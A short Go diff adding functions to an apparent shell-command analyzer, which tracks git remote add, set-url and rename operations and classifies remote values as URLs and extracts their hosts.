+func (x *cmdCtx) gitRemotePointed(ops []shell.Word) {
+	if len(ops) < 3 {
+		return
+	}
+	switch ops[0].Value {
+	case "add", "set-url":
+		x.r.pointRemote(ops[1].Value, ops[len(ops)-1].Value)
+	case "rename":
+		x.r.pointRemote(ops[2].Value, "a renamed remote")
+	}
+}
+
+func (r *result) pointRemote(name, to string) {
+	if r.remotes == nil {
+		r.remotes = map[string]string{}
+	}
+	if to == "" {
+		to = "another place"
+	}
+	r.remotes[name] = to
+}
+
+// gitURL: a remote spelled as a URL (scheme://, user@host:path, host:path) rather than a name
+// or a local path.
+func gitURL(v string) bool {
+	if strings.Contains(v, "://") {
+		return !strings.HasPrefix(v, "file://")
+	}
+	return remoteHost(v) != "" && !strings.HasPrefix(v, "/") && path.IsAbs("/"+v)
+}
+
+func gitURLHost(v string) string {
+	if h := urlHost(v); h != "" {
+		return h
+	}
+	if h := remoteHost(v); h != "" {
+		return h
+	}
+	return v
+}
